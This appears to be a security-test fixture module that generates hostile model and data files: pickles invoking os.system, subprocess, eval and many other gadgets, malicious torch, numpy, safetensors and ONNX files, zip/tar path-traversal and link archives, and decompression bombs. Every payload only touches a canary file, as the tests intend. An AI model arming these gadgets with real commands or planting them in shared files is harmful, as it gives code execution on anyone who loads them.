"""Files that attack whoever reads them: each would leave a canary file if any of it were run.

`hostile_files(canary)` gives (name, bytes) pairs: pickles that call the shell or Python in every
way that pickle knows, the same inside torch's, numpy's and archive formats and under the names of
other formats, and files that lie about their size or point to other files. Nothing here is run by
making it; `PICKLES` are known to work where `pickle.load` is used.
"""

import io
import json
import marshal
import pickle
import shlex
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from pathlib import Path

import numpy as np

_TORCH_MAGIC = 0x1950A86A20F9469CFC6C
_TORCH_PROTOCOL = 1001


class Ops(bytes):
    """Opcodes that leave one object on the stack."""


def _push(value: object) -> bytes:
    # Without the protocol in front and the stop behind.
    return bytes(value) if isinstance(value, Ops) else pickle.dumps(value, 2)[2:-1]


def _name(module: str, name: str) -> Ops:
    return Ops(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def _call(module: str, name: str, *arguments: object) -> Ops:
    return _apply(_name(module, name), *arguments)


def _apply(function: Ops, *arguments: object) -> Ops:
    return Ops(function + b"(" + b"".join(map(_push, arguments)) + b"tR")


def _text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


# ---------------------------------------------------------------- pickles


def pickles(canary: Path) -> dict[str, bytes]:
    """Return pickles that make `canary` when `pickle.load` reads them, by what they use."""
    # The names of Python 2 are known to its protocols alone.
    starts = {"python 2 eval": b"\x80\x02"}
    gadgets = _gadgets(canary).items()
    return {name: starts.get(name, b"\x80\x04") + ops + b"." for name, ops in gadgets} | {
        f"protocol {number}": pickle.dumps(_Runs(f"touch {shlex.quote(str(canary))}"), number)
        for number in range(6)
    }


class _Runs:
    """Pickles as a call of the shell."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, ...]:
        from os import system

        return system, (self._command,)


def _gadgets(canary: Path) -> dict[str, bytes]:
    shell = f"touch {shlex.quote(str(canary))}"
    code = f"open({str(canary)!r}, 'w').close()"
    system = _name("os", "system")
    inner = b"\x80\x02" + _call("os", "system", shell) + b"."
    module = _call("builtins", "__import__", "os")
    attribute = _apply(_call("operator", "attrgetter", "system"), module)
    compiled = _call("builtins", "compile", code, "x", "exec")
    loaded = _call("marshal", "loads", marshal.dumps(compile(code, "x", "exec")))
    path = _call("pathlib", "Path", str(canary))
    return {
        "os.system": _call("os", "system", shell),
        "posix.system": _call("posix", "system", shell),
        "os.popen": _call("os", "popen", shell),
        "subprocess.call": _call("subprocess", "call", ["touch", str(canary)]),
        "subprocess.Popen": _call("subprocess", "Popen", ["touch", str(canary)]),
        "subprocess.run": _call("subprocess", "run", ["touch", str(canary)]),
        "subprocess.getoutput": _call("subprocess", "getoutput", shell),
        "os.spawnlp": _call("os", "spawnlp", 0, "touch", "touch", str(canary)),
        "builtins.eval": _call("builtins", "eval", code),
        "builtins.exec": _call("builtins", "exec", code),
        "python 2 eval": _call("__builtin__", "eval", code),
        "builtins.open": _call("builtins", "open", str(canary), "w"),
        "io.open": _call("io", "open", str(canary), "w"),
        "pathlib touch": _apply(_dotted("pathlib", "Path.touch"), path),
        "compile and exec": _call("builtins", "exec", compiled),
        "marshal": _call("builtins", "exec", loaded),
        "import and getattr": _apply(_call("builtins", "getattr", module, "system"), shell),
        "attrgetter": _apply(attribute, shell),
        "methodcaller": _apply(_call("operator", "methodcaller", "system", shell), module),
        "partial": _apply(_call("functools", "partial", system, shell)),
        "list of map": _call("builtins", "list", _call("builtins", "map", system, [shell])),
        "deque of map": _call("collections", "deque", _call("builtins", "map", system, [shell])),
        "timeit": _call("timeit", "timeit", code, "pass", _name("time", "time"), 1),
        "runstring": _call("numpy.testing._private.utils", "runstring", code, {}),
        "pickle in a pickle": _call("pickle", "loads", inner),
        "C pickle in a pickle": _call("_pickle", "loads", inner),
        "cProfile": _call("cProfile", "run", code, str(canary) + ".profile"),
        "instance opcode": b"(" + _push(shell) + b"ios\nsystem\n",
        "object opcode": b"(" + system + _push(shell) + b"o",
        "stack global": _text("os") + _text("system") + b"\x93" + _push((shell,)) + b"R",
        "memoised names": _text("system") + b"\x940" + _text("os") + b"h\x00\x93"
        + _push((shell,)) + b"R",
        "dotted name": _text("subprocess") + _text("os.system") + b"\x93" + _push((shell,)) + b"R",
        "newobj": _name("subprocess", "Popen") + b")\x810" + _call("os", "system", shell),
        "setstate": _name("collections", "OrderedDict") + b")R" + _push("x")
        + _call("os", "system", shell) + b"s",
        "in a dict key": b"}" + _call("os", "system", shell) + b"Ns",
        "in a tuple": b"(K\x01" + _call("os", "system", shell) + b"t",
        "below many lists": b"]" * 50 + _call("os", "system", shell) + b"a" * 50,
        "after a checkpoint": _push({"model": 1}) + b"0" + _call("os", "system", shell),
        "runpy": _call("runpy", "_run_code", compiled, {}),
        "crackfortran": _call("numpy.f2py.crackfortran", "myeval", code),
    }  # fmt: skip


def _dotted(module: str, name: str) -> Ops:
    return Ops(_text(module) + _text(name) + b"\x93")


# ---------------------------------------------------------------- files around them


def hostile_files(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Yield (what it is, bytes) of every hostile file."""
    made = pickles(canary)
    yield from made.items()
    core = made["os.system"]
    quoted = f"__import__('os').system({'touch ' + shlex.quote(str(canary))!r})"
    yield from _torch_files(core, quoted).items()
    yield from _numpy_files(core, quoted).items()
    yield from _archives(canary, core).items()
    yield from _others(canary, core, quoted).items()


def _torch_files(core: bytes, quoted: str) -> dict[str, bytes]:
    values: tuple[object, ...] = (_TORCH_MAGIC, _TORCH_PROTOCOL, {})
    head = [pickle.dumps(value, 2) for value in values]
    rebuilt = b"\x80\x02" + _call(
        "torch._tensor", "_rebuild_from_type_v2", _name("builtins", "eval"), "x", (quoted,), {}
    )
    parameter = b"\x80\x02" + _call(
        "torch._utils", "_rebuild_parameter", _call("builtins", "eval", quoted), 1, {}
    )
    load = b"\x80\x02" + _call("torch", "load", io_bytes(core)) + b"."
    code = f"def forward(self):\n  {quoted}\n".encode()
    return {
        "torch legacy": b"".join(head) + core,
        "torch legacy, system information": head[0] + head[1] + core,
        "torch legacy, magic number": core + head[1] + head[2],
        "torch legacy, persistent id": b"".join(head) + core[:-1] + b"Q.",
        "torch zip": torch_zip({"data.pkl": core}),
        "torch zip, compressed": torch_zip({"data.pkl": core}, zipfile.ZIP_DEFLATED),
        "torch zip, constants": torch_zip({"data.pkl": b"\x80\x02}.", "constants.pkl": core}),
        "torch zip, two pickles": torch_zip({"data.pkl": core, "./data.pkl": b"\x80\x02}."}),
        "torch zip, storage": torch_zip({"data.pkl": b"\x80\x02" + core[2:-1] + b"Q."}),
        "torch zip, rebuild": torch_zip({"data.pkl": rebuilt + b"."}),
        "torch zip, parameter": torch_zip({"data.pkl": parameter + b"."}),
        "torch zip, torch.load": torch_zip({"data.pkl": load}),
        "torch zip, as a checkpoint": torch_zip(
            {"data.pkl": b"\x80\x02}" + _push("model") + core[2:-1] + b"s."}
        ),
        "TorchScript": torch_zip(
            {"constants.pkl": core, "code/__torch__.py": code, "data.pkl": core}
        ),
        "torch tar": tar({"storages": core, "tensors": core, "pickle": core, "sys_info": core}),
        "torch zip, bomb": torch_zip(
            {"data.pkl": b"\x80\x02" + bytes(2**26)}, zipfile.ZIP_DEFLATED
        ),
    }


def io_bytes(data: bytes) -> Ops:
    """Return opcodes for a stream of `data`."""
    return _call("io", "BytesIO", data)


def torch_zip(members: Mapping[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return an archive as `torch.save` lays it out."""
    extra = {"version": b"3\n", "byteorder": b"little"}
    return archive({f"archive/{name}": data for name, data in {**members, **extra}.items()},
                   compression)  # fmt: skip


def archive(members: Mapping[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return a zip file; names go in as they are."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as zipped:
        for name, data in members.items():
            zipped.writestr(zipfile.ZipInfo(name), data, compression)
    return file.getvalue()


def tar(
    members: Mapping[str, bytes], links: Mapping[str, tuple[bytes, str]] | None = None
) -> bytes:
    """Return a tar file; `links` are name -> (kind, target)."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as tarred:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            tarred.addfile(entry, io.BytesIO(data))
        for name, (kind, target) in (links or {}).items():
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, target
            tarred.addfile(entry)
    return file.getvalue()


def npy(header: str | bytes, data: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    """Return an .npy with any header."""
    text = header.encode("latin1") if isinstance(header, str) else header
    size = struct.pack("<H" if version == (1, 0) else "<I", len(text))
    return b"\x93NUMPY" + bytes(version) + size + text + data


def _header(descr: str, shape: str) -> str:
    return f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}\n"


def plain_npy(array: np.ndarray) -> bytes:
    """Return an honest .npy."""
    file = io.BytesIO()
    np.save(file, array, allow_pickle=False)
    return file.getvalue()


def _numpy_files(core: bytes, quoted: str) -> dict[str, bytes]:
    objects = npy(_header("'|O'", "(1,)"), core)
    record = "[('a', '|O'), ('b', '<f4')]"
    huge = npy(_header("'<f4'", "(1099511627776, 1, 17, 3)"), b"")
    wide = npy(_header("'<U268435456'", "()"), b"")
    negative = npy(_header("'<f4'", "(-1, 17, 3)"), bytes(99))
    names = ("keypoints", "width", "clip", "scores", "labels", "clips", "classes", "values", "kind")
    keypoints = plain_npy(np.ones((12, 1, 17, 3), np.float32))
    bomb = npy(_header("'<f4'", "(67108864,)"), bytes(2**26))
    return {
        "npy of objects": objects,
        "npy of records with objects": npy(
            f"{{'descr': {record}, 'fortran_order': False, 'shape': (1,), }}\n", core
        ),
        "npy whose header is code": npy(quoted, b""),
        "npy whose type is code": npy(
            f"{{'descr': {quoted}, 'fortran_order': False, 'shape': (1,), }}\n", b""
        ),
        "npy version 3 of objects": npy(
            "{'descr': '|O', 'fortran_order': False, 'shape': (), }\n", core, (3, 0)
        ),
        "npy of version 9": npy("{}", core, (9, 9)),
        "npy that is deep": npy("(" * 5000 + ")" * 5000, b""),
        "npy that lies about its size": huge,
        "npy of one wide text": wide,
        "npy of negative size": negative,
        "npz of objects": archive({f"{name}.npy": objects for name in names}),
        "npz of pickles": archive({f"{name}.npy": core for name in names}),
        "npz without endings": archive(dict.fromkeys(names, core)),
        "npz with an object note": archive({"keypoints.npy": keypoints, "clip.npy": objects}),
        "npz with a wide note": archive({"keypoints.npy": keypoints, "clip.npy": wide}),
        "npz that lies about its size": archive({f"{name}.npy": huge for name in names}),
        "npz bomb": archive({f"{name}.npy": bomb for name in names[:4]}, zipfile.ZIP_DEFLATED),
        "npz in an npz": archive({f"{name}.npy": archive({"x.npy": core}) for name in names}),
        "npz with lzma that is none": _recompressed(archive({"keypoints.npy": core}), 14),
        "npz with an unknown compression": _recompressed(archive({"keypoints.npy": core}), 99),
    }


def _recompressed(data: bytes, method: int) -> bytes:
    """Return a zip of one stored member that says it is compressed by another method."""
    changed = bytearray(data)
    struct.pack_into("<H", changed, 8, method)
    struct.pack_into("<H", changed, data.rindex(b"PK\x01\x02") + 10, method)
    return bytes(changed)


def _archives(canary: Path, core: bytes) -> dict[str, bytes]:
    away = f"{'../' * 12}{str(canary).lstrip('/')}"
    weights = torch_zip({"data.pkl": core})
    shard = {"a.jpg": b"\xff\xd8\xff", "a.pickle": core, "a.pyd": core, "a.pth": weights}
    links = {
        "out": (tarfile.SYMTYPE, str(canary.parent)),
        "out/canary": (tarfile.SYMTYPE, str(canary)),
        "hard": (tarfile.LNKTYPE, str(canary)),
        "device": (tarfile.CHRTYPE, ""),
        "pipe": (tarfile.FIFOTYPE, ""),
    }
    return {
        "zip slip": archive({away: core, "keypoints.npy": core}),
        "zip slip, absolute": archive({str(canary): core}),
        "zip slip, Windows": archive({away.replace("/", "\\"): core}),
        "tar slip": tar({away: core}),
        "tar slip, absolute": tar({str(canary): core}),
        "tar of links": tar({"x": core}, links),
        "tar shard of pickles": tar(shard),
        "zip of zips": archive({f"{n}.zip": archive({"x": bytes(10**6)}, 8) for n in range(20)}, 8),
    }


def _others(canary: Path, core: bytes, quoted: str) -> dict[str, bytes]:
    lying = json.dumps({"x": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}})
    code = json.dumps({"x": {"dtype": quoted, "shape": [1], "data_offsets": [0, 4]}})
    yaml = f"!!python/object/apply:os.system ['touch {canary}']\n"
    return {
        "safetensors whose header is too long": struct.pack("<Q", 2**60) + b"{}",
        "safetensors that lie about their size": _tensors(lying),
        "safetensors of a type that is code": _tensors(code),
        "safetensors that are a pickle": _tensors("{}") + core,
        "safetensors of deep JSON": _tensors("[" * 100_000),
        "YAML that runs": yaml.encode(),
        "YAML as JSON": f'{{"classes": "{yaml.strip()}"}}'.encode(),
        "Python": f"{quoted}\n".encode(),
        "shell": f"#!/bin/sh\ntouch {shlex.quote(str(canary))}\n".encode(),
        "template": f"{{{{ {quoted} }}}} {{% set x = {quoted} %}}".encode(),
        "deep JSON": b"[" * 200_000,
        "JSON of a huge number": b'{"a": ' + b"1" * 5000 + b"}",
        "JSON of half a character": b'{"classes": ["\\ud800", "\\udfff"]}',
        "playlist": f"#EXTM3U\n#EXTINF:1,\nfile://{canary.parent}\n".encode(),
        "concat list": f"ffconcat version 1.0\nfile '{canary.parent}/x.mp4'\n".encode(),
        "compressed pickle": zlib.compress(core),
        "nothing": b"",
        "zeros": bytes(4096),
    }


def _tensors(header: str) -> bytes:
    return struct.pack("<Q", len(header)) + header.encode() + bytes(8)


def onnx_files(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Yield ONNX files that point to other files or ask for operators that run code."""
    import onnx
    from onnx import TensorProto, helper

    def model(nodes: list, tensors: list, domains: tuple[str, ...] = ("",)) -> bytes:
        graph = helper.make_graph(
            nodes,
            "g",
            [helper.make_tensor_value_info("frames", TensorProto.FLOAT, [1])],
            [helper.make_tensor_value_info("logits", TensorProto.FLOAT, [1])],
            tensors,
        )
        opsets = [helper.make_opsetid(domain, 17) for domain in domains]
        return helper.make_model(graph, opset_imports=opsets).SerializeToString()

    add = helper.make_node("Add", ["frames", "w"], ["logits"])
    places = ("/etc/passwd", "../../../../etc/passwd", str(canary), "x/../../y", "model.onnx")
    for place in places:
        tensor = onnx.TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1])
        tensor.data_location = TensorProto.EXTERNAL
        tensor.external_data.add(key="location", value=place)
        yield f"ONNX with weights in {place[:30]}", model([add], [tensor])
    code = f"open({str(canary)!r}, 'w')"
    strange = helper.make_node("PyOp", ["frames"], ["logits"], domain="ai.onnx.contrib", code=code)
    yield "ONNX with an operator in Python", model([strange], [], ("", "ai.onnx.contrib"))
    big = onnx.TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2**40], raw_data=b"abcd")
    yield "ONNX that lies about its size", model([add], [big])
